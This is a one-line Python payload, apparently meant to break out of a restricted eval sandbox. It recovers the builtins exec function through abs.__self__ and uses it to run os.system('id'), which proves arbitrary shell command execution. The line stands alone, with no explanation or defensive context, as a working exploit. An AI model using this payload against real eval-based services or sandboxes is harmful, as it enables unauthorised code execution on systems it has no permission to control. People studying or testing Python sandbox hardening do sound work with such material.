vars(abs.__self__)["exec"]("import os; os.system('id')")
